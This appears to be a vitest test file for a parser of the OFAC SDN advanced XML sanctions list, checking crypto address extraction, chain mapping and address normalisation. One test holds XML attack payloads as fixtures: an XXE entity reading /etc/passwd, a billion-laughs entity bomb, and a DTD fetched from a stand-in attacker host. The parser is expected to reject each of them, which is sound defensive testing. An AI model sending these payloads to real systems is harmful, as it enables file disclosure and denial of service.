import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { addressKey, chainOfListedAddress } from './sanctioned-address';
import { parseSdnAdvanced, SdnListTooLargeError } from './sdn-advanced-parser';
import { XmlRefusedError } from './xml-tag-scanner';

const sample = readFileSync(new URL('./fixtures/sdn-advanced-sample.xml', import.meta.url), 'utf8');

/** The text in pieces of `size` characters, as a stream would bring it. */
async function* inPieces(text: string | Buffer, size: number): AsyncGenerator<Uint8Array | string> {
  for (let at = 0; at < text.length; at += size) yield text.slice(at, at + size);
}

const parse = (text: string | Buffer, size = 64 * 1024, maxBytes = 1_000_000) => parseSdnAdvanced(inPieces(text, size), { maxBytes });

/** A minimal list around `body` (inside `<Sanctions>`), with one XBT feature type. */
const minimal = (body: string, prolog = '') =>
  `${prolog}<Sanctions><ReferenceValueSets><FeatureTypeValues><FeatureType ID="1">Digital Currency Address - XBT</FeatureType></FeatureTypeValues></ReferenceValueSets>${body}</Sanctions>`;

describe('the SDN advanced XML', () => {
  it('reads the sample to its chain/address pairs, each once, with the party named', async () => {
    const parsed = await parse(sample);
    expect(parsed.publishedOn).toBe('2025-03-14');
    expect(parsed.addresses.map((entry) => [entry.currency, entry.chain, entry.key])).toEqual([
      ['XBT', 'bitcoin', 'bc1qngnl9dqfwvsjvr8s028enrpq5pmwtzyvlflq48'],
      ['ETH', 'ethereum', '0xbd96804860b4852fd2ac062834f2a23e7e081f26'],
      ['USDT', 'ethereum', '0xacc61c100815d8576b600f171e17d5ec0217a934'],
      // USDT on Tron: not an Ethereum address, kept but screened on no chain the platform runs.
      ['USDT', 'other', 'TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE'],
      ['XBT', 'bitcoin', '143X2jcKWwx65VqWUj7w81P6tkTbMRMajD'],
      ['XBT', 'bitcoin', 'bcrt1qeexgjf7yl28t9qj6athsan5qcfutcag9leq8gh'],
      ['XRP', 'xrpl', 'rBBsve4oubziEahAfCddYWCXgi9mk38orp'],
      ['LTC', 'other', 'ltc1qexamplenotascreenedchain0000000000000'],
      ['USDC', 'ethereum', '0x6d62547268aa349ab3e4f9324db1e09c6f58fd11'],
    ]);
    expect(parsed.addresses.find((entry) => entry.currency === 'ETH')).toMatchObject({
      address: '0xbD96804860B4852fD2ac062834F2A23e7E081f26',
      label: 'EXAMPLE & PARTNERS OTC',
      partyRef: '90001',
    });
    expect(parsed.addresses.find((entry) => entry.currency === 'XRP')?.label).toBe('SAMPLEVA Ivana');
    expect(parsed.addresses.find((entry) => entry.currency === 'USDC')?.label).toBe('MIXER SERVICE LTD');
    expect(parsed.bytes).toBe(Buffer.byteLength(sample));
    expect(parsed.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('reads the same whatever the pieces the stream brings (a tag, a reference, a character cut in two)', async () => {
    const whole = await parse(sample);
    for (const size of [1, 3, 7, 64]) expect(await parse(sample, size)).toEqual(whole);
    const bytes = Buffer.from(
      minimal(
        '<DistinctParty FixedRef="5"><Profile><Identity><Alias Primary="true"><DocumentedName><DocumentedNamePart><NamePartValue>Ёжик &#x4E2D; Ltd</NamePartValue></DocumentedNamePart></DocumentedName></Alias></Identity><Feature FeatureTypeID="1"><FeatureVersion><VersionDetail>bc1qngnl9dqfwvsjvr8s028enrpq5pmwtzyvlflq48</VersionDetail></FeatureVersion></Feature></Profile></DistinctParty>',
      ),
    );
    const pieces = async function* () {
      for (let at = 0; at < bytes.length; at += 1) yield bytes.subarray(at, at + 1);
    };
    const parsed = await parseSdnAdvanced(pieces(), { maxBytes: 10_000 });
    expect(parsed.addresses).toEqual([expect.objectContaining({ label: 'Ёжик 中 Ltd', partyRef: '5', chain: 'bitcoin' })]);
  });

  it('refuses a DTD and never expands an entity: internal, external (XXE) and nested (billion laughs)', async () => {
    const attacks = [
      minimal('', '<?xml version="1.0"?><!DOCTYPE Sanctions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(
        '</Sanctions>',
        '<DistinctParty><Profile><Feature FeatureTypeID="1"><FeatureVersion><VersionDetail>&xxe;</VersionDetail></FeatureVersion></Feature></Profile></DistinctParty></Sanctions>',
      ),
      minimal('', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>').replace(
        '</Sanctions>',
        '<x>&lol2;</x></Sanctions>',
      ),
      minimal('<!ENTITY inside "boom">'),
      minimal('<!DOCTYPE Sanctions SYSTEM "http://attacker.example/evil.dtd">'),
    ];
    for (const attack of attacks) {
      await expect(parse(attack)).rejects.toThrow(XmlRefusedError);
      await expect(parse(attack)).rejects.toMatchObject({ reason: expect.stringContaining('DTD') });
    }
    // Without a DTD, a reference to an undefined entity is refused, not read as text.
    await expect(parse(minimal('<x>&xxe;</x>'))).rejects.toMatchObject({ reason: 'undefined entity &xxe;' });
  });

  it('refuses what is not the SDN advanced list, or not well-formed', async () => {
    const refused = async (text: string | Buffer, reason: string | RegExp) =>
      expect(parse(text)).rejects.toMatchObject({ name: 'XmlRefusedError', reason: expect.stringMatching(reason) });
    await refused('<sdnList><sdnEntry/></sdnList>', 'not <Sanctions>');
    await refused('<Sanctions><DistinctParties/></Sanctions>', 'no "Digital Currency Address" feature type');
    await refused(minimal('<a><b></a></b>'), 'closes');
    await refused(minimal('<a>'), '</Sanctions> closes <a>');
    await refused(minimal('<a></a>').slice(0, -3), 'ends before');
    await refused(minimal('<a>one & two</a>'), 'bare "&"');
    await refused(minimal('<a>\u0001</a>'), 'control character');
    await refused(minimal('<a>&#0;</a>'), 'names no XML character');
    await refused(Buffer.concat([Buffer.from(minimal('<a>')), Buffer.from([0xff, 0xfe]), Buffer.from('</a>')]), 'not UTF-8');
    await refused(minimal('', '<?xml version="1.0" encoding="ISO-8859-1"?>'), 'only UTF-8');
    await refused(minimal('<a x="1>'), 'ends before');
    await refused(`${minimal('')}<Sanctions/>`, 'second root');
    await refused(minimal(`<a b="${'x'.repeat(70_000)}"/>`), 'tag too long');
    await refused(minimal('<a>'.repeat(100) + '</a>'.repeat(100)), 'nested deeper');
  });

  it('stops reading past the size limit', async () => {
    await expect(parseSdnAdvanced(inPieces(sample, 100), { maxBytes: 1_000 })).rejects.toBeInstanceOf(SdnListTooLargeError);
  });
});

describe('listed addresses', () => {
  it('map OFAC currency codes to the chains screened, by shape', () => {
    expect(chainOfListedAddress('XBT', 'bc1qngnl9dqfwvsjvr8s028enrpq5pmwtzyvlflq48')).toBe('bitcoin');
    expect(chainOfListedAddress('XBT', 'not-an-address')).toBe('other');
    expect(chainOfListedAddress('ETH', '0xbD96804860B4852fD2ac062834F2A23e7E081f26')).toBe('ethereum');
    expect(chainOfListedAddress('USDC', '0x6d62547268aa349ab3e4f9324db1e09c6f58fd11')).toBe('ethereum');
    expect(chainOfListedAddress('USDT', 'TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE')).toBe('other');
    expect(chainOfListedAddress('XRP', 'rBBsve4oubziEahAfCddYWCXgi9mk38orp')).toBe('xrpl');
    expect(chainOfListedAddress('XMR', '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx')).toBe('other');
  });

  it('compare EVM and bech32 in lower case, base58 and XRP as they are, an X-address as its account', () => {
    expect(addressKey('ethereum', ' 0xbD96804860B4852fD2ac062834F2A23e7E081f26 ')).toBe('0xbd96804860b4852fd2ac062834f2a23e7e081f26');
    expect(addressKey('bitcoin', 'BC1QNGNL9DQFWVSJVR8S028ENRPQ5PMWTZYVLFLQ48')).toBe('bc1qngnl9dqfwvsjvr8s028enrpq5pmwtzyvlflq48');
    expect(addressKey('bitcoin', '143X2jcKWwx65VqWUj7w81P6tkTbMRMajD')).toBe('143X2jcKWwx65VqWUj7w81P6tkTbMRMajD');
    expect(addressKey('xrpl', 'rBBsve4oubziEahAfCddYWCXgi9mk38orp')).toBe('rBBsve4oubziEahAfCddYWCXgi9mk38orp');
    expect(addressKey('xrpl', 'XVp6XPntk3ntLkgXd4R8qN3RgZ2ZKkPkwox51H1uE9ZeEUX')).toBe('rBBsve4oubziEahAfCddYWCXgi9mk38orp');
  });
});
